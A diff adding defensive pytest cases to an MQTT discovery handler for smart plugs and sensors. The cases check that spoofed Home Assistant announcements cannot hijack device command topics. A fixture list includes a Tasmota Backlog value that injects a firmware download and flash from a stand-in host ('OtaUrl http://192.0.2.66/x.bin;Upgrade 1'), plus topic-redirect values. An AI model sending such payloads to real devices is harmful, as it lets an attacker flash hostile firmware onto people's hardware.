@@ -164,9 +164,7 @@ def test_an_entity_that_points_into_another_devices_tree_is_refused() -> None:
     parts = {"one": {"p": "sensor", "dev_cla": "temperature", "unit_of_meas": "°C", "stat_t": "garden/t"}}
     parts["two"] = {"p": "sensor", "dev_cla": "power", "unit_of_meas": "W", "stat_t": "tele/plug-1/SENSOR"}
     words = {"dev": {"name": "x"}, "cmps": parts}
-    heard = room.announce((topic, words))
-    assert Unreadable(device_id=BOARD, why="an entity with another device's topics") in heard
-    assert set(_about(heard, BOARD).about.metrics) == {"temperature"}
+    assert room.announce((topic, words)) == [Unreadable(device_id=BOARD, why="an entity with another device's topics")]
     commanded = {"stat_t": "garden/relay", "cmd_t": "cmnd/plug-1/POWER", "dev": {"name": "x"}}
     heard = room.announce(("homeassistant/switch/garden/relay/config", commanded))
     assert heard == [Unreadable(device_id=BOARD, why="an entity with another device's topics")]
@@ -188,7 +186,7 @@ def test_only_so_many_entities_of_a_device_are_taken_sensors_first() -> None:
     assert len(metrics) == 64
     assert sum(name.startswith("power") for name in metrics) == 4
     another = {"dev_cla": "humidity", "unit_of_meas": "%", "stat_t": "garden/h", "dev": {"name": "x"}}
-    heard = room.announce(("homeassistant/sensor/garden/h/config", another))
+    heard = room.announce(("homeassistant/sensor/y/h/config", another))
     assert heard == [Unreadable(device_id=BOARD, why="more entities than a device may have")]
 
 
@@ -227,6 +225,95 @@ def test_a_planned_switch_is_switched_as_it_says_itself() -> None:
     for name in set(DeviceCommandName) - {DeviceCommandName.SWITCH_ON, DeviceCommandName.SWITCH_OFF}:
         assert room.dialect.say(PLUG, DeviceCommand(id="c", name=name, expires_at=0)) == ()
     assert not room.dialect.answers(PLUG)
+
+
+SWITCH_OFF = DeviceCommand(id="c", name=DeviceCommandName.SWITCH_OFF, expires_at=0)
+PLUGGED_OFF = (Outgoing(topic="guests/cmnd/plug-1/POWER", payload=b"OFF"),)
+
+
+def _switch(**words: object) -> Said:
+    usual = {"stat_t": "stat/plug-1/POWER", "cmd_t": "cmnd/plug-1/POWER", "uniq_id": "!", "dev": {"name": "x"}}
+    return "homeassistant/switch/evil/config", {**usual, **words}
+
+
+EVIL: list[dict[str, object]] = [
+    {"cmd_t": "cmnd/plug-1/Backlog", "pl_off": "OtaUrl http://192.0.2.66/x.bin;Upgrade 1"},
+    {"cmd_t": "cmnd/plug-1/Backlog"},
+    {"pl_off": "OtaUrl http://192.0.2.66/x.bin"},
+    {"pl_off": "ON", "pl_on": "OFF", "stat_on": "ON", "stat_off": "OFF"},
+    {"cmd_t": "cmnd/plug-1/POWER/x"},
+    {"cmd_t": "plug-1/cmnd/Backlog"},
+]
+
+
+@pytest.mark.parametrize("words", EVIL)
+def test_a_later_announcement_does_not_take_a_switch_over(words: dict[str, object]) -> None:
+    room = Room()
+    room.announce(*tasmota())
+    room.announce(_switch(**words))
+    assert room.dialect.say(PLUG, SWITCH_OFF) == PLUGGED_OFF
+    room.hear(tasmota()[0][0], b"")
+    assert room.dialect.say(PLUG, SWITCH_OFF) == (), "nor is it asked of the other when the first is gone"
+
+
+@pytest.mark.parametrize("words", EVIL)
+def test_an_announcement_brings_neither_topics_nor_payloads_of_its_own(words: dict[str, object]) -> None:
+    room = Room()
+    room.announce(_switch(**words))
+    assert room.dialect.say(PLUG, SWITCH_OFF) == ()
+
+
+@pytest.mark.parametrize(("on", "off"), [("OFF", "ON"), ("false", "true"), ("0", "1")])
+def test_a_switch_whose_words_are_turned_round_is_refused(on: str, off: str) -> None:
+    heard = Room().announce(_switch(stat_on=on, stat_off=off))
+    assert heard == [Unreadable(device_id=PLUG, why="a switch whose words are turned round")]
+
+
+@pytest.mark.parametrize("payload", ['{"state": "OFF"}', '{"state":"OFF"}', "off", "0", "false", False, 0])
+def test_the_payloads_that_makers_use_are_sent(payload: object) -> None:
+    room = Room()
+    topic, words = _switch(pl_off=payload, pl_on="ON", stat_on="ON", stat_off="OFF")
+    room.announce((topic, words))
+    (said,) = room.dialect.say(PLUG, SWITCH_OFF)
+    assert said.payload.decode() == (str(payload).lower() if isinstance(payload, bool) else str(payload))
+
+
+@pytest.mark.parametrize("topic", ["zigbee2mqtt/Cửa tủ/set", "zigbee2mqtt/Cửa tủ/l1/set"])
+def test_a_bridge_switches_nothing_in_the_tree_of_a_device_that_it_carries(topic: str) -> None:
+    room = Room()
+    words = {"stat_t": "zigbee2mqtt/x", "cmd_t": topic, "uniq_id": "!", "dev": {"name": "x"}}
+    heard = room.announce(("homeassistant/switch/zigbee2mqtt/x/config", words))
+    assert heard == [Unreadable(device_id=STICK, why="an entity with another device's topics")]
+
+
+def test_a_device_is_not_crowded_out_of_its_own_announcements() -> None:
+    room = Room()
+    parts = {f"c{n}": {"p": "sensor", "stat_t": f"garden/s{n}", "unit_of_meas": "V"} for n in range(64)}
+    room.announce(("homeassistant/device/evil/config", {"dev": {"name": "x"}, "cmps": parts}))
+    assert "temperature" in _about(room.announce(*esphome()), BOARD).about.metrics
+
+
+def test_what_a_device_announces_on_its_own_topics_is_named_before_what_came_elsewhere() -> None:
+    room = Room()
+    shadow = {"dev_cla": "temperature", "unit_of_meas": "°C", "stat_t": "garden/other", "uniq_id": "!"}
+    room.announce(("homeassistant/sensor/evil/config", shadow), *esphome())
+    assert room.values("garden/sensor/air/state", b"27", BOARD) == {"temperature": 27}
+
+
+@pytest.mark.parametrize("level", ["garden", BOARD, "dev-nobodys"])
+def test_what_another_device_announces_on_its_topics_is_not_taken(level: str) -> None:
+    words = _switch()[1]
+    heard = Room().announce((f"homeassistant/switch/{level}/x/config", words))
+    assert heard == [Unreadable(device_id=PLUG, why="an announcement by another device")]
+
+
+def test_an_announcement_never_goes_over_to_another_device() -> None:
+    room = Room()
+    first, *_ = tasmota()
+    room.announce(first)
+    heard = room.announce((first[0], {"stat_t": "garden/x", "dev": {"name": "x"}}))
+    assert heard == [Unreadable(device_id=PLUG, why="an announcement that becomes another device's")]
+    assert room.dialect.say(PLUG, SWITCH_OFF) == PLUGGED_OFF
 
 
 def test_words_of_the_rooms_own_broker_are_none_of_its() -> None:
